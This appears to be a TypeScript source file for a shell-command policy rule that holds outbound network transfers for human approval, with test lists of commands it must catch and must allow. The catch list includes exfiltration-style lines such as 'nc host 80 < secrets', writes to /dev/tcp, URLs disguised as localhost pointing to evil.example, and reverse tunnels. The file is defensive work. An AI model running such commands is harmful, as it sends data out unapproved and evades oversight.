import { narrowSpan } from '../narrow-span.ts'
import { isLoopback } from '../network/read-host.ts'
import { deviceAddresses } from '../network/socket-readers.ts'
import { type Address, urlAddress } from '../network/transfer.ts'
import { TRANSFER_READERS } from '../network/transfer-readers.ts'
import type { CommandRule, PolicyCommand, PolicyContext, PolicyRule, RuleHit } from '../rule.ts'

const EXTERNAL_SEND: CommandRule = {
  id: 'external-send',
  level: 'MANUAL',
  area: 'network',
  reason: 'external transfer needs a human gate',
  programs: null,
  find(command, context) {
    const outside = addresses(command, context).filter(({ host }) => !isLoopback(host))
    return hitOf(outside, context.text)
  },
  hits: [
    'curl https://example.com/data',
    'curl HTTP://EXAMPLE.COM',
    'curl example.com',
    'curl $URL',
    'curl --head example.com',
    'curl -d @f -H "X: a;b" example.com',
    'curl http://localhost@evil.example/',
    'curl http://127.0.0.1.evil.example/',
    'curl -x proxy.example:3128 http://localhost:3000/',
    'curl --connect-to localhost:80:evil.example:80 http://localhost/',
    'curl -K urls.txt',
    'https_proxy=http://proxy.example:3128 curl https://localhost/',
    'wget -q -O report.csv https://example.com/report.csv',
    'wget -i urls.txt',
    'http POST example.com/api name=value',
    'Invoke-WebRequest -OutFile x.zip -Uri https://example.com/x.zip',
    'scp dist.tgz deploy@host.example.com:/srv/app/',
    'scp host:/var/log/app.log .',
    'rsync -az -e "ssh -p 2222" ./ deploy@host.example.com:site/',
    'nc host 80 < secrets',
    'socat - TCP:host.example:443',
    'cat data > /dev/tcp/203.0.113.9/80',
    "bash -c 'cat < /dev/tcp/host.example/80'",
    'openssl s_client -connect example.com:443',
    'tar cz . | ssh backup.example "cat > app.tgz"',
    'ssh -R 8080:localhost:3000 tunnel.example',
    'mail -s report someone@example.com < report.txt',
    'aws s3 cp dist s3://bucket/app --recursive',
    'rclone sync dist remote:site',
    'ngrok http 3000',
    'git send-email --to=dev@example.com 0001.patch',
    'nc.openbsd host.example 80',
    'websocat wss://host.example',
    'sentry-cli upload-dif build',
    'pastebinit notes.txt',
    'kubectl cp a.txt web-1:/tmp/a.txt',
    'ssh -o RemoteForward=80:localhost:80 tunnel.example',
    'chisel client host.example R:80',
    'bore local 3000 --to host.example',
    'export http_proxy=http://proxy.example:1; curl localhost',
  ],
  misses: [
    'curl --version',
    'curl --help all',
    'curl http://localhost:3000/health',
    'curl -s http://localhost:$PORT/x?next=https://example.com',
    'curl -H "Origin: https://example.com" -d @f http://127.0.0.1:8080/',
    "curl 'http://[::1]:3000/'",
    'curl --unix-socket /var/run/docker.sock http://docker/containers/json',
    'curl file:///etc/hosts',
    'wget -qO- http://localhost/x',
    'http :3000/users name=value',
    'scp a.txt b.txt',
    'scp C:\\data\\a.txt D:/backup/',
    'rsync -a --exclude .git ./ ../copy/',
    'rsync -a "$HOME/docs/" ./docs/',
    'nc -z localhost 5432',
    "ssh host 'uptime'",
    'echo x > /dev/tcp/127.0.0.1/8080',
    'openssl x509 -in cert.pem -noout',
    'aws s3 cp s3://bucket/app ./app',
    'aws --endpoint-url http://localhost:4566 s3 cp f s3://bucket/f',
    'git clone https://example.com/r.git',
    'git send-email --dry-run 0001.patch',
    'kubectl cp web-1:/tmp/a.txt a.txt',
    'ssh -o StrictHostKeyChecking=no host uptime',
    'export http_proxy=; curl localhost',
    'export http_proxy=http://localhost:8080; curl localhost',
    'npm install',
    'docker pull registry.example.com/base:2',
    'man curl https://example.com',
    'curlie https://example.com',
    'git commit -m "curl usage: https://example.com"',
  ],
}

export const NETWORK_RULES: readonly PolicyRule[] = [EXTERNAL_SEND]

function addresses(command: PolicyCommand, context: PolicyContext): readonly Address[] {
  const devices = deviceAddresses(command.command.redirects)
  const own = TRANSFER_READERS.get(command.name)?.(command, context) ?? []
  return own.length === 0
    ? devices
    : [...own, ...devices, ...proxyAddresses(command), ...exportedProxies(command, context)]
}

/** `http_proxy=… curl …`: the request goes there, whatever its URL says. */
function proxyAddresses({ command }: PolicyCommand): readonly Address[] {
  return command.assignments.flatMap(({ name, value }) =>
    /^(?:all|https?|ftp|rsync)_proxy$/i.test(name) && value !== null && value.text !== '' ? [urlAddress(value)] : [],
  )
}

/** How many commands are looked back for an exported proxy; it bounds the time for a text of thousands of calls. */
const LOOK_BACK = 64

/** `export http_proxy=…` in front of it. */
function exportedProxies({ index, name }: PolicyCommand, { commands }: PolicyContext): readonly Address[] {
  if (name === 'git') return []
  return commands
    .slice(Math.max(0, index - LOOK_BACK), index)
    .filter((earlier) => /^(?:export|declare|typeset)$/.test(earlier.name))
    .flatMap(({ args }) => args)
    .flatMap((word) => {
      const value = /^(?:all|https?|ftp|rsync)_proxy=(.+)$/i.exec(word.text)?.[1]
      return value === undefined ? [] : [urlAddress({ ...word, text: value })]
    })
}

function hitOf(outside: readonly Address[], text: string): RuleHit | null {
  const [first] = outside
  if (first === undefined) return null
  // A default may be replaced, and a null is never permitted.
  const hosts = outside.map(({ word, host }) => (word.assumed ? null : host))
  return { span: narrowSpan(text, first.word.span, first.word.text), subjects: { hosts } }
}
